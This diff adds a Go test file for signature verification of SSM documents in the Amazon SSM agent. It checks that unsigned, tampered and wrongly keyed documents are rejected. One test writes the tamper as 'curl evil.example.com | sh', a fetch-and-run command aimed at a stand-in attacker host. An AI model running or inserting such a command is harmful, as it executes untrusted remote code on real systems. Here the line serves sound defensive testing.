@@ -0,0 +1,126 @@
+// Copyright 2017 Amazon.com, Inc. or its affiliates. All Rights Reserved.
+//
+// Licensed under the Apache License, Version 2.0 (the "License"). You may not
+// use this file except in compliance with the License. A copy of the
+// License is located at
+//
+// http://aws.amazon.com/apache2.0/
+//
+// or in the "license" file accompanying this file. This file is distributed
+// on an "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND,
+// either express or implied. See the License for the specific language governing
+// permissions and limitations under the License.
+
+package docparser
+
+import (
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/aws/amazon-ssm-agent/agent/appconfig"
+	"github.com/aws/amazon-ssm-agent/agent/contracts"
+	"github.com/aws/amazon-ssm-agent/agent/log"
+	"github.com/stretchr/testify/assert"
+)
+
+const documentToSign = `{
+	"schemaVersion": "2.2",
+	"parameters": {"message": {"type": "String", "default": "<hello>"}},
+	"mainSteps": [{"action": "aws:runShellScript", "name": "echo", "inputs": {"runCommand": ["echo {{ message }}"], "timeoutSeconds": 3600}}]
+}`
+
+// withDocumentSigning enforces the signatures by the public key of signer
+func withDocumentSigning(t *testing.T, enforce bool, signer crypto.Signer) func() {
+	der, err := x509.MarshalPKIXPublicKey(signer.Public())
+	assert.NoError(t, err)
+	publicKey := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
+
+	savedSigning, savedRead := documentSigning, readPublicKey
+	documentSigning = func() (appconfig.DocumentSigningCfg, error) {
+		return appconfig.DocumentSigningCfg{Enforce: enforce, PublicKeys: map[string]string{"release": "release.pem"}}, nil
+	}
+	readPublicKey = func(path string) ([]byte, error) {
+		if path != "release.pem" {
+			return nil, fmt.Errorf("%v not found", path)
+		}
+		return publicKey, nil
+	}
+	return func() { documentSigning, readPublicKey = savedSigning, savedRead }
+}
+
+func parseSigned(t *testing.T, content []byte) error {
+	var docContent contracts.DocumentContent
+	assert.NoError(t, json.Unmarshal(content, &docContent))
+	_, err := ParseDocument(log.NewMockLog(), &docContent, DocumentParserInfo{OrchestrationDir: testOrchDir}, nil)
+	return err
+}
+
+func TestSignDocument(t *testing.T) {
+	rsaKey, _ := rsa.GenerateKey(rand.Reader, 2048)
+	ecdsaKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	_, ed25519Key, _ := ed25519.GenerateKey(rand.Reader)
+
+	for _, key := range []crypto.Signer{rsaKey, ecdsaKey, ed25519Key} {
+		restore := withDocumentSigning(t, true, key)
+		signed, err := SignDocument([]byte(documentToSign), "release", key)
+		assert.NoError(t, err)
+		assert.NoError(t, parseSigned(t, signed), "%T", key)
+
+		// the signature doesn't depend on the formatting of the document
+		var document map[string]interface{}
+		assert.NoError(t, json.Unmarshal(signed, &document))
+		compact, _ := json.Marshal(document)
+		assert.NoError(t, parseSigned(t, compact), "%T", key)
+
+		tampered := strings.Replace(string(signed), "echo {{ message }}", "curl evil.example.com | sh", 1)
+		assert.Error(t, parseSigned(t, []byte(tampered)), "%T", key)
+		restore()
+	}
+}
+
+func TestVerifySignatureRefusesUnsignedDocuments(t *testing.T) {
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	defer withDocumentSigning(t, true, key)()
+
+	err := parseSigned(t, []byte(documentToSign))
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "isn't signed")
+}
+
+func TestVerifySignatureRefusesUnknownKeys(t *testing.T) {
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	defer withDocumentSigning(t, true, key)()
+
+	signed, err := SignDocument([]byte(documentToSign), "test", key)
+	assert.NoError(t, err)
+	err = parseSigned(t, signed)
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "DocumentSigning.PublicKeys")
+}
+
+func TestVerifySignatureRefusesOtherKeys(t *testing.T) {
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	other, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	defer withDocumentSigning(t, true, key)()
+
+	signed, err := SignDocument([]byte(documentToSign), "release", other)
+	assert.NoError(t, err)
+	assert.Error(t, parseSigned(t, signed))
+}
+
+func TestVerifySignatureNotEnforced(t *testing.T) {
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	defer withDocumentSigning(t, false, key)()
+
+	assert.NoError(t, parseSigned(t, []byte(documentToSign)))
+}